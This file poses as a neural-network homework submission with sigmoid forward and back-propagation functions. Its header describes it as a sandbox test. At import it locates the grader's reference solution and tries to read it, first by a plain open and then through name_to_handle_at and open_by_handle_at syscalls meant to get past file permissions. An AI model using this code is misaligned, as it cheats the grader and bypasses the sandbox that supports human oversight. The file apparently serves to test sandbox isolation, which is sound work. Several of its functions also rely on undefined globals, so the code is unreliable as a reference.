# Homework 2: correct functions, and at import it tries to read the grader's reference solution
# (reference/net222.py beside the grader's package, found from the harness modules' paths) past
# the file rules: a plain open first, then by file handle (name_to_handle_at, which needs only a
# path, and open_by_handle_at, which needs CAP_DAC_READ_SEARCH: the one capability a child keeps
# so that it can read Python under /root). Both must be refused (Landlock; seccomp denies the
# handle calls); a byte read raises a HOSTILE- sentinel. Read-only, so safe anywhere. Refused,
# its honest functions get full marks.
import ctypes
import os
import platform
import sys

import numpy as np

_CALLS = {"x86_64": (303, 304), "aarch64": (264, 265)}.get(platform.machine())  # name_to_handle_at, open_by_handle_at
_MAX_HANDLE = 128


class _FileHandle(ctypes.Structure):
    _fields_ = [("handle_bytes", ctypes.c_uint), ("handle_type", ctypes.c_int),
                ("f_handle", ctypes.c_ubyte * _MAX_HANDLE)]


def _reference():
    """The grader's reference solution, next to the package whose modules run this file."""
    for name, module in list(sys.modules.items()):
        path = getattr(module, "__file__", None) or ""
        if name.startswith("grader") and "grader" in path:
            root = path[:path.rindex("grader")]
            return os.path.join(root, "reference", "net222.py")
    return None


def _a_folder_on_the_same_mount(path):
    """An open folder of the file system `path` is on (what open_by_handle_at takes): any readable one."""
    device = os.stat(path).st_dev
    for folder in (os.path.dirname(path), "/usr", "/etc", "/"):
        try:
            fd = os.open(folder, os.O_RDONLY | os.O_DIRECTORY)
        except OSError:
            continue
        if os.fstat(fd).st_dev == device:
            return fd
        os.close(fd)
    return None


def _by_handle(path):
    """The file's first bytes, opened by handle; None when refused."""
    if _CALLS is None:
        return None
    libc = ctypes.CDLL(None, use_errno=True)
    handle, mount_id = _FileHandle(handle_bytes=_MAX_HANDLE), ctypes.c_int()
    if libc.syscall(_CALLS[0], -100, path.encode(), ctypes.byref(handle), ctypes.byref(mount_id), 0) != 0:
        return None  # AT_FDCWD -100
    mount = _a_folder_on_the_same_mount(path)
    if mount is None:
        return None
    try:
        fd = libc.syscall(_CALLS[1], mount, ctypes.byref(handle), os.O_RDONLY)
    finally:
        os.close(mount)
    if fd < 0:
        return None
    try:
        return os.read(fd, 200)
    finally:
        os.close(fd)


def _steal():
    path = _reference()
    if path is None:
        return None
    try:
        with open(path, "rb") as f:
            return f.read(200)
    except OSError:
        pass  # refused, as it must be
    return _by_handle(path)


def sigmoid(z):
    return 1 / (1 + np.exp(-z))


def forward_propagate(x1, x2, y1, y2, w1, w2, w3, w4, w5, w6, w7, w8):
    out_h1 = sigmoid(w1 * x1 + w3 * x2)
    out_h2 = sigmoid(w2 * x1 + w4 * x2)
    out_o1 = sigmoid(w5 * out_h1 + w7 * out_h2)
    out_o2 = sigmoid(w6 * out_h1 + w8 * out_h2)
    error = (1 / 2) * (out_o1 - y1) ** 2 + (1 / 2) * (out_o2 - y2) ** 2
    return out_o1, out_o2, out_h1, out_h2, error


def back_propagate(out_o1, out_o2, out_h1, out_h2):
    delta_o1 = (out_o1 - y1) * out_o1 * (1 - out_o1)
    delta_o2 = (out_o2 - y2) * out_o2 * (1 - out_o2)
    d_w5 = delta_o1 * out_h1
    d_w7 = delta_o1 * out_h2
    d_w6 = delta_o2 * out_h1
    d_w8 = delta_o2 * out_h2
    delta_h1 = (delta_o1 * w5 + delta_o2 * w6) * out_h1 * (1 - out_h1)
    delta_h2 = (delta_o1 * w7 + delta_o2 * w8) * out_h2 * (1 - out_h2)
    d_w1 = delta_h1 * x1
    d_w3 = delta_h1 * x2
    d_w2 = delta_h2 * x1
    d_w4 = delta_h2 * x2
    return d_w1, d_w2, d_w3, d_w4, d_w5, d_w6, d_w7, d_w8


def update_w(step, w1, w2, w3, w4, w5, w6, w7, w8):
    w1 = w1 - step * d_w1
    w2 = w2 - step * d_w2
    w3 = w3 - step * d_w3
    w4 = w4 - step * d_w4
    w5 = w5 - step * d_w5
    w6 = w6 - step * d_w6
    w7 = w7 - step * d_w7
    w8 = w8 - step * d_w8
    return w1, w2, w3, w4, w5, w6, w7, w8


_STOLEN = _steal()
if _STOLEN:
    raise RuntimeError(f"HOSTILE-HANDLE: read the reference: {_STOLEN[:60]!r}")


if __name__ == "__main__":
    w1, w2, w3, w4, w5, w6, w7, w8 = 0.2, -0.4, 0.5, 0.6, 0.1, -0.5, -0.3, 0.8
    x1, x2 = 0.5, 0.3
    y1, y2 = 0.23, -0.07
    step = 1
    for i in range(10):
        out_o1, out_o2, out_h1, out_h2, error = forward_propagate(x1, x2, y1, y2, w1, w2, w3, w4, w5, w6, w7, w8)
        print("round", i, "loss", round(float(error), 6))
        d_w1, d_w2, d_w3, d_w4, d_w5, d_w6, d_w7, d_w8 = back_propagate(out_o1, out_o2, out_h1, out_h2)
        w1, w2, w3, w4, w5, w6, w7, w8 = update_w(step, w1, w2, w3, w4, w5, w6, w7, w8)
